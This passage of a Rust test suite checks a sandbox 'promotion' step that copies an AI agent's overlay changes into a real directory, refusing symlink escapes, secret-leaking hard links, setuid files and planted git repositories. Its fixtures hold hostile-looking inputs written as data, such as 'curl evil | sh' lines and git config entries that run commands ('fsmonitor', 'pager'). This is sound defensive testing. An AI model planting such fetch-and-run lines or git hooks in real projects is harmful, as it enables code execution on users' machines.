        symlink("../inner", f.upper.join("d/ok"))?;
        symlink("abs/x", f.upper.join("via"))?;
        let refused = f.refused()?;
        let got: Vec<(&str, &Refusal)> = refused.iter().map(|(p, r)| (p.as_str(), r)).collect();
        assert_eq!(got.len(), 5, "{got:?}");
        assert!(got.contains(&("abs", &Refusal::SymlinkAbsolute)));
        assert!(got.contains(&("rel", &Refusal::SymlinkEscapes)));
        assert!(got.contains(&("cfg", &Refusal::SymlinkIntoGit)));
        assert!(matches!(
            got.iter().find(|g| g.0 == "env"),
            Some((_, Refusal::SymlinkToRefused { .. }))
        ));
        assert!(matches!(
            got.iter().find(|g| g.0 == "via"),
            Some((_, Refusal::SymlinkThroughLink { .. }))
        ));
        assert!(f.snapshot().is_empty());
        Ok(())
    }

    /// Round one (by a naive copy) left `assets -> ../outside` in the target; round two
    /// writes `assets/pwn`. Promotion never writes through the link.
    #[test]
    fn a_symlink_already_in_the_target_is_never_written_through() -> TestResult {
        let f = fixture()?;
        symlink("../outside", f.target.join("assets"))?;
        std::fs::create_dir(f.upper.join("assets"))?;
        std::fs::create_dir(f.lower.join("assets"))?;
        write(&f.upper.join("assets/pwn"), "agent\n")?;
        // The sandbox saw a directory there (its lower layer differs from the target), so
        // the change set only adds assets/pwn: its parent is the target's symlink.
        let refused = f.refused()?;
        assert_eq!(
            refused,
            [("assets/pwn".to_owned(), Refusal::ParentSymlink)],
            "{refused:?}"
        );
        assert!(!f.outside.join("pwn").exists());

        // Opaque (what overlayfs writes after rm + mkdir): the link itself is replaced.
        rustix::fs::lsetxattr(
            f.upper.join("assets").as_path(),
            "user.overlay.opaque",
            b"y",
            rustix::fs::XattrFlags::empty(),
        )?;
        f.apply_all()?;
        assert!(!f.outside.join("pwn").exists(), "wrote through the symlink");
        assert!(std::fs::symlink_metadata(f.target.join("assets"))?.is_dir());
        assert_eq!(f.read("assets/pwn")?, "agent\n");
        Ok(())
    }

    #[test]
    fn a_hard_link_in_the_target_is_replaced_not_written_through() -> TestResult {
        let f = fixture()?;
        write(&f.target.join("tools/run.sh"), "echo safe\n")?;
        std::fs::create_dir(f.target.join("docs"))?;
        std::fs::hard_link(f.target.join("tools/run.sh"), f.target.join("docs/notes"))?;
        write(&f.lower.join("docs/notes"), "echo safe\n")?;
        write(&f.upper.join("docs/notes"), "curl evil | sh\n")?;
        f.apply_all()?;
        assert_eq!(f.read("tools/run.sh")?, "echo safe\n");
        assert_eq!(f.read("docs/notes")?, "curl evil | sh\n");
        Ok(())
    }

    #[test]
    fn hard_links_to_files_outside_the_change_set_are_refused() -> TestResult {
        let f = fixture()?;
        write(&f.outside.join("secret"), "host secret\n")?;
        std::fs::hard_link(f.outside.join("secret"), f.upper.join("leak"))?;
        write(&f.upper.join("a"), "a\n")?;
        std::fs::hard_link(f.upper.join("a"), f.upper.join("b"))?;
        let refused = f.refused()?;
        assert_eq!(
            refused,
            [(
                "leak".to_owned(),
                Refusal::HardLink {
                    nlink: 2,
                    inside: 1
                }
            )]
        );
        assert!(f.snapshot().is_empty());
        Ok(())
    }

    #[test]
    fn special_files_and_setid_bits_are_refused() -> TestResult {
        let f = fixture()?;
        rustix::fs::mknodat(
            rustix::fs::CWD,
            f.upper.join("fifo").as_path(),
            FileType::Fifo,
            Mode::from_raw_mode(0o644),
            0,
        )?;
        let _sock = std::os::unix::net::UnixListener::bind(f.upper.join("sock"))?;
        // A real device (1:3, /dev/null), not a 0/0 whiteout (needs CAP_MKNOD: tests run as root).
        rustix::fs::mknodat(
            rustix::fs::CWD,
            f.upper.join("null").as_path(),
            FileType::CharacterDevice,
            Mode::from_raw_mode(0o666),
            rustix::fs::makedev(1, 3),
        )?;
        write(&f.upper.join("suid"), "#!/bin/sh\n")?;
        std::fs::set_permissions(
            f.upper.join("suid"),
            std::fs::Permissions::from_mode(0o4755),
        )?;
        write(&f.upper.join("sgid"), "#!/bin/sh\n")?;
        std::fs::set_permissions(
            f.upper.join("sgid"),
            std::fs::Permissions::from_mode(0o2755),
        )?;
        let refused = f.refused()?;
        assert_eq!(
            refused,
            [
                (
                    "fifo".to_owned(),
                    Refusal::Special {
                        kind: FileKind::Fifo
                    }
                ),
                (
                    "null".to_owned(),
                    Refusal::Special {
                        kind: FileKind::CharDevice
                    }
                ),
                ("sgid".to_owned(), Refusal::SetId { mode: 0o2755 }),
                (
                    "sock".to_owned(),
                    Refusal::Special {
                        kind: FileKind::Socket
                    }
                ),
                ("suid".to_owned(), Refusal::SetId { mode: 0o4755 }),
            ]
        );
        assert!(f.snapshot().is_empty());
        Ok(())
    }

    #[test]
    fn deleting_a_tree_that_holds_protected_names_is_refused() -> TestResult {
        let f = fixture()?;
        write(&f.target.join("vendor/lib/.git/config"), "[core]\n")?;
        write(&f.lower.join("vendor/x"), "x")?;
        std::fs::write(f.upper.join("vendor"), "")?;
        rustix::fs::lsetxattr(
            f.upper.join("vendor").as_path(),
            "user.overlay.whiteout",
            b"",
            rustix::fs::XattrFlags::empty(),
        )?;
        let refused = f.refused()?;
        assert!(
            matches!(refused.as_slice(), [(p, Refusal::RemovesRefused { .. })] if p == "vendor"),
            "{refused:?}"
        );
        assert!(f.target.join("vendor/lib/.git/config").exists());
        Ok(())
    }

    #[test]
    fn an_embedded_bare_repository_is_refused() -> TestResult {
        let f = fixture()?;
        write(
            &f.upper.join("fixtures/repo/HEAD"),
            "ref: refs/heads/main\n",
        )?;
        write(
            &f.upper.join("fixtures/repo/config"),
            "[core]\n\tfsmonitor = id\n",
        )?;
        std::fs::create_dir_all(f.upper.join("fixtures/repo/objects"))?;
        std::fs::create_dir_all(f.upper.join("fixtures/repo/refs"))?;
        let refused = f.refused()?;
        assert_eq!(
            refused,
            [("fixtures/repo".to_owned(), Refusal::EmbeddedRepo)]
        );
        Ok(())
    }

    /// The target changes between the check and the apply (someone swaps a directory for a
    /// symlink): the apply stops there, names what it applied, and writes nothing outside.
    #[test]
    fn a_target_swapped_after_the_check_stops_the_apply_and_names_what_was_applied() -> TestResult {
        let f = fixture()?;
        std::fs::create_dir(f.target.join("d"))?;
        std::fs::create_dir(f.lower.join("d"))?;
        write(&f.upper.join("a.txt"), "a\n")?;
        std::fs::create_dir(f.upper.join("d"))?;
        write(&f.upper.join("d/x"), "x\n")?;
        let plan = f.plan(true)?;
        assert!(plan.refused.is_empty(), "{:?}", plan.refused);
        std::fs::remove_dir(f.target.join("d"))?;
        symlink(&f.outside, f.target.join("d"))?;
        let err = apply(&plan).err();
        let Some(PromoteError::Partial {
            path,
            applied,
            total,
            ..
        }) = &err
        else {
            return Err(format!("expected a partial apply, got {err:?}").into());
        };
        assert_eq!(
            (path.as_path(), applied.as_slice(), *total),
            (Path::new("d/x"), &[PathBuf::from("a.txt")][..], 2)
        );
        assert!(
            !f.outside.join("x").exists(),
            "wrote through the swapped-in symlink"
        );
        let Event::Promoted {
            complete, paths, ..
        } = plan.event(applied, false)
        else {
            return Err("not a promoted event".into());
        };
        assert_eq!((complete, paths), (false, vec!["A /a.txt".to_owned()]));
        Ok(())
    }

    #[test]
    fn the_audit_event_lists_what_was_applied() -> TestResult {
        let f = fixture()?;
        write(&f.upper.join("a"), "a")?;
        let plan = f.plan(true)?;
        let applied = apply(&plan)?;
        let Event::Promoted {
            entries,
            paths,
            digest,
            complete,
            ..
        } = plan.event(&applied, true)
        else {
            return Err("not a promoted event".into());
        };
        assert_eq!((entries, complete), (1, true));
        assert_eq!(paths, ["A /a"]);
        assert!(digest.starts_with("sha256:") && digest.len() == 71);
        Ok(())
    }

    #[test]
    fn nothing_below_a_git_is_written_and_nested_git_content_is_refused() -> TestResult {
        let f = fixture()?;
        write(&f.target.join(".git/HEAD"), "ref: refs/heads/main\n")?;
        write(&f.lower.join(".git/HEAD"), "ref: refs/heads/main\n")?;
        write(&f.upper.join(".git/index"), "DIRC-crafted")?;
        write(&f.upper.join(".git/HEAD"), "ref: refs/heads/evil\n")?;
        write(&f.upper.join(".git/logs/HEAD"), "x\n")?;
        write(&f.upper.join("ok.txt"), "ok\n")?;
        let plan = f.plan(true)?;
        assert!(plan.refused.is_empty(), "{:?}", plan.refused);
        let paths: Vec<&Path> = plan.entries.iter().map(|e| e.path.as_path()).collect();
        assert_eq!(paths, [Path::new("ok.txt")]);
        apply(&plan)?;
        assert!(!f.target.join(".git/index").exists());
        assert_eq!(f.read(".git/HEAD")?, "ref: refs/heads/main\n");

        let f = fixture()?;
        write(&f.upper.join("vendor/lib/.git/HEAD"), "ref: refs/heads/x\n")?;
        write(&f.upper.join("pkg/.GIT/objects/ab/cd"), "x")?;
        write(&f.upper.join("sub/.Git"), "gitdir: ../evil\n")?;
        let refused = f.refused()?;
        let want = |p: &str, r: Refusal| refused.contains(&(p.to_owned(), r));
        assert!(
            want("vendor/lib/.git/HEAD", Refusal::NestedGit),
            "{refused:?}"
        );
        // Another spelling of .git is refused by its name first, whatever it holds.
        let alias = |name: &str| Refusal::GitAlias {
            name: name.to_owned(),
        };
        assert!(want("pkg/.GIT/objects/ab/cd", alias(".GIT")), "{refused:?}");
        assert!(want("sub/.Git", alias(".Git")), "{refused:?}");
        assert!(f.snapshot().is_empty());
        Ok(())
    }

    /// Git finds `objects` and `refs` through `commondir`; a `HEAD` beside it is enough.
    #[test]
    fn a_git_directory_by_any_of_gits_rules_is_refused_considering_the_target() -> TestResult {
        // HEAD + commondir (the objects, refs and config live elsewhere).
        let f = fixture()?;
        write(&f.upper.join("src/HEAD"), "ref: refs/heads/main\n")?;
        write(&f.upper.join("src/commondir"), "../tools/c\n")?;
        write(
            &f.upper.join("tools/c/config"),
            "[core]\n\tpager = touch /tmp/x\n",
        )?;
        std::fs::create_dir_all(f.upper.join("tools/c/objects"))?;
        std::fs::create_dir_all(f.upper.join("tools/c/refs"))?;
        let refused = f.refused()?;
        assert!(
            refused.contains(&("src".to_owned(), Refusal::EmbeddedRepo)),
            "{refused:?}"
        );
        assert!(f.snapshot().is_empty());

        // The agent adds only `lib/head`; the target already holds `lib/Objects` and
        // `lib/refs` (names compared as a case-insensitive filesystem would).
        let f = fixture()?;
        std::fs::create_dir_all(f.target.join("lib/Objects"))?;
        std::fs::create_dir_all(f.target.join("lib/refs"))?;
        std::fs::create_dir_all(f.lower.join("lib"))?;
        write(&f.upper.join("lib/head"), "ref: refs/heads/main\n")?;
        let refused = f.refused()?;
        assert_eq!(refused, [("lib".to_owned(), Refusal::EmbeddedRepo)]);

        // A gitdir file beside HEAD, at the target's root.
        let f = fixture()?;
        write(&f.upper.join("HEAD"), "ref: refs/heads/main\n")?;
        write(&f.upper.join("gitdir"), "/elsewhere\n")?;
        let refused = f.refused()?;
        assert_eq!(refused, [(String::new(), Refusal::EmbeddedRepo)]);

        // A HEAD alone, or objects and refs alone, is an ordinary directory.
        let f = fixture()?;
        write(&f.upper.join("docs/HEAD"), "x\n")?;
        std::fs::create_dir_all(f.upper.join("data/objects"))?;
        std::fs::create_dir_all(f.upper.join("data/refs"))?;
        f.apply_all()?;
        Ok(())
    }

    /// Bytes this thread has read through read(2)-like calls (`rchar` of
    /// `/proc/thread-self/io`): tests run on threads of their own.
    fn thread_rchar() -> Result<u64, Box<dyn std::error::Error>> {
        let io = std::fs::read_to_string("/proc/thread-self/io")?;
        let line = io
            .lines()
            .find(|l| l.starts_with("rchar:"))
            .ok_or("no rchar")?;
        Ok(line.trim_start_matches("rchar:").trim().parse()?)
    }

    /// A 64 MiB file with three small data segments.
    fn sparse_file(path: &Path) -> io::Result<()> {
        use std::os::unix::fs::FileExt as _;
        if let Some(p) = path.parent() {
            std::fs::create_dir_all(p)?;
        }
        let f = File::create_new(path)?;
        f.set_len(64 << 20)?;
        f.write_all_at(b"head", 0)?;
        f.write_all_at(&[9u8; 5000], 20 << 20)?;
        f.write_all_at(b"tail", (64 << 20) - 4)?;
        f.sync_all()
    }

    #[test]
    fn sparse_files_and_hard_links_are_staged_once_and_promoted_with_holes_and_links() -> TestResult
    {
        let f = fixture()?;
        sparse_file(&f.upper.join("data/big.img"))?;
        write(&f.upper.join("lib/a.so"), &"x".repeat(100_000))?;
        for name in ["lib/b.so", "lib/c.so", "other/d.so"] {
            write(&f.upper.join(name).with_file_name(".keep"), "")?;
            std::fs::hard_link(f.upper.join("lib/a.so"), f.upper.join(name))?;
        }
        let before = thread_rchar()?;
        let dry = f.plan(false)?;
        let read = thread_rchar()? - before;
        assert!(dry.refused.is_empty(), "{:?}", dry.refused);
        // The data once: three blocks' worth of segments (4 KiB, 8 KiB, 4 KiB: holes are
        // block-sized) and 100,000 bytes; not 64 MiB, not 4 x 100,000.
        assert!(read < 200_000, "the dry run read {read} bytes");
        assert_eq!(dry.footprint.data, 16384 + 100_000);
        assert_eq!(dry.footprint.naive, (64 << 20) + 400_000);
        let lines: Vec<String> = dry.entries.iter().map(Entry::describe).collect();
        assert!(
            lines.contains(
                &"create  /data/big.img (file 0644, 67108864 bytes, 16384 of them data)".to_owned()
            ),
            "{lines:?}"
        );
        assert!(
            lines.contains(&"create  /lib/b.so (hard link to /lib/a.so)".to_owned()),
            "{lines:?}"
        );
        assert!(lines.contains(&"create  /other/d.so (hard link to /lib/a.so)".to_owned()));

        let plan = f.plan(true)?;
        assert_eq!(plan.digest, dry.digest);
        apply(&plan)?;
        drop(plan);
        let big = std::fs::metadata(f.target.join("data/big.img"))?;
        assert_eq!(big.len(), 64 << 20);
        assert!(
            big.blocks() * 512 <= 256 << 10,
            "holes filled: {} blocks",
            big.blocks()
        );
        assert!(
            std::fs::read(f.upper.join("data/big.img"))?
                == std::fs::read(f.target.join("data/big.img"))?,
            "content differs"
        );
        let ino = std::fs::metadata(f.target.join("lib/a.so"))?.ino();
        for name in ["lib/b.so", "lib/c.so", "other/d.so"] {
            let m = std::fs::metadata(f.target.join(name))?;
            assert_eq!((m.ino(), m.nlink()), (ino, 4), "{name}");
        }
        assert_eq!(f.read("other/d.so")?.len(), 100_000);
        Ok(())
    }

    #[test]
    fn a_change_set_past_the_limit_is_refused_before_any_file_is_read() -> TestResult {
        let f = fixture()?;
        write(&f.upper.join("a"), &"a".repeat(3 << 20))?;
        for i in 0..20 {
            std::fs::hard_link(f.upper.join("a"), f.upper.join(format!("l{i}")))?;
        }
        sparse_file(&f.upper.join("big"))?;
        let changes = crate::diff(&f.upper, Some(&f.lower))?;
        let limit = SizeLimit {
            bytes: 2 << 20,
            source: "the sandbox's workspace_size".to_owned(),
        };
        for stage in [false, true] {
            let before = thread_rchar()?;
            let r = prepare(&f.upper, &changes, &f.target, &rules(), stage, &limit);
            let read = thread_rchar()? - before;
            let Err(PromoteError::TooLarge(e)) = r else {
                return Err(format!("not refused: {r:?}").into());
            };
            assert_eq!((e.bytes, e.files, e.names), ((3 << 20) + 16384, 2, 22));
            assert!(read < 64 << 10, "read {read} bytes before refusing");
            assert!(f.snapshot().is_empty(), "the target changed");
        }
        // Within the limit, what is read is the data once.
        let roomy = SizeLimit {
            bytes: 4 << 20,
            source: "test".to_owned(),
        };
        let before = thread_rchar()?;
        let plan = prepare(&f.upper, &changes, &f.target, &rules(), false, &roomy)?;
        let read = thread_rchar()? - before;
        assert!(plan.refused.is_empty());
        assert!(read < (3 << 20) + (256 << 10), "read {read} bytes");
        Ok(())
    }

    #[test]
    fn the_digest_tells_a_hole_from_written_zeros_and_a_link_from_a_copy() -> TestResult {
        use std::os::unix::fs::FileExt as _;
        let f = fixture()?;
        sparse_file(&f.upper.join("s"))?;
        let sparse = f.plan(false)?.digest;
        // The same bytes with the holes written as zeros.
        let bytes = std::fs::read(f.upper.join("s"))?;
        std::fs::remove_file(f.upper.join("s"))?;
        File::create_new(f.upper.join("s"))?.write_all_at(&bytes, 0)?;
        assert_ne!(f.plan(false)?.digest, sparse);
        std::fs::remove_file(f.upper.join("s"))?;

        write(&f.upper.join("a"), "same\n")?;
        write(&f.upper.join("b"), "same\n")?;
        let copies = f.plan(false)?.digest;
        std::fs::remove_file(f.upper.join("b"))?;
        std::fs::hard_link(f.upper.join("a"), f.upper.join("b"))?;
        assert_ne!(f.plan(false)?.digest, copies);
        Ok(())
    }

    /// The first name of a linked file refused by name: the next name reads and stages it,
    /// and the plan still refuses (nothing is applied).
    #[test]
    fn a_linked_file_whose_first_name_is_refused_is_read_under_its_next_name() -> TestResult {
        let f = fixture()?;
        write(&f.upper.join(".envrc"), "curl evil | sh\n")?;
        std::fs::hard_link(f.upper.join(".envrc"), f.upper.join("notes"))?;
        std::fs::hard_link(f.upper.join(".envrc"), f.upper.join("z"))?;
        let plan = f.plan(true)?;
        let refused: Vec<_> = plan.refused.iter().map(|(p, _)| p.clone()).collect();
        assert_eq!(refused, [PathBuf::from(".envrc")]);
        let lines: Vec<String> = plan.entries.iter().map(Entry::describe).collect();
        assert_eq!(
            lines,
            [
                "create  /notes (file 0644, 15 bytes)",
                "create  /z (hard link to /notes)"
            ]
        );
        assert!(apply(&plan).is_err());
        drop(plan);
        assert!(f.snapshot().is_empty());
        Ok(())
    }
}
